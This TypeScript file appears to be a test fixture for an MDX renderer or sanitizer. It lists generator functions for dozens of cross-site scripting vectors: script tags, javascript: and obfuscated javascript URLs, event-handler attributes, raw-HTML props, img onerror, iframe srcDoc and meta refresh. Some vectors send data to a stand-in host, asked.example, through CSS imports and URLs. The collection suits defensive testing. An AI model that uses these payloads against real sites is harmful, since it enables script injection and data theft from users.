/** Writes a vector that calls `call`. */
export type Write = (call: string) => string;

export function words(list: string): string[] {
	return list.split(' ');
}

/** What MDX would run, or pass on to something that does. */
export const mdxOnly: readonly Write[] = [
	(call) => `{${call}}`,
	(call) => `\n{(() => ${call})()}\n`,
	(call) => `{/* a */ ${call}}`,
	(call) => `{\`\${${call}}\`}`,
	(call) => `{<script>{${JSON.stringify(call)}}</script>}`,
	(call) => `\n\nimport x from "data:text/javascript,${call.replaceAll('"', "'")}"\n\n`,
	(call) => `\n\nexport const x = ${call}\n\n`,
	(call) => `<a href={"javascript:" + ${JSON.stringify(call)}}>字</a>`,
	...['"', "'", '`'].map(
		(quote): Write =>
			(call) =>
				`<a href={${quote}java\\x73cript:${call.replaceAll('"', '\\"').replaceAll("'", "\\'")}${quote}}>字</a>`,
	),
	...words('onClick onLoad onError onFocus onMouseOver').flatMap((name): Write[] => [
		(call) => `<b ${name}={() => ${call}}>字</b>`,
		(call) => `<b ${name}={${JSON.stringify(call)}}>字</b>`,
		(call) => `<b ${name}=${JSON.stringify(call).replaceAll('\\"', "'")}>字</b>`,
		(call) => `<Tip ${name}={${JSON.stringify(call)}}>字</Tip>`,
	]),
	...words('dangerouslySetInnerHTML set:html innerHTML children is:raw srcDoc define:vars').map(
		(name): Write =>
			(call) =>
				`<p ${name}={{ __html: ${JSON.stringify(`<script>${call}</script>`)} }}>字</p>`,
	),
	...words('set:html innerHTML srcDoc client:load').map(
		(name): Write =>
			(call) =>
				`<p ${name}={${JSON.stringify(`<img src=x onerror=${call}>`)}}>字</p>`,
	),
	(call) => `<p {...{ onClick: ${call} }}>字</p>`,
	(call) => `<script>{${JSON.stringify(call)}}</script>`,
	(call) => `<style>{"@import 'https://asked.example/${call.replaceAll('"', '')}'"}</style>`,
	(call) =>
		`<svg onLoad={${JSON.stringify(call)}}><script>{${JSON.stringify(call)}}</script></svg>`,
	(call) => `<iframe srcDoc={${JSON.stringify(`<script>${call}</script>`)}} />`,
	(call) =>
		`<form action={${JSON.stringify(`javascript:${call}`)}}><input autoFocus onFocus={${JSON.stringify(call)}} /></form>`,
	(call) => `<meta httpEquiv="refresh" content={${JSON.stringify(`0;url=javascript:${call}`)}} />`,
	(call) => `<link rel="stylesheet" href={"https://asked.example/${call.replaceAll('"', '')}"} />`,
	(call) =>
		`<p style={{ backgroundImage: ${JSON.stringify(`url(https://asked.example/${call})`)} }}>字</p>`,
	(call) => `<Tip title={${JSON.stringify(`<script>${call}</script>`)}}>字</Tip>`,
	(call) => `<Badge text={${JSON.stringify(`<img src=x onerror=${call}>`)}} />`,
	(call) => `<x.y>{${JSON.stringify(`<script>${call}</script>`)}}</x.y>`,
	(call) => `<xlink:href>{${JSON.stringify(`<script>${call}</script>`)}}</xlink:href>`,
	(call) => `<>{${JSON.stringify(`<script>${call}</script>`)}}</>`,
];
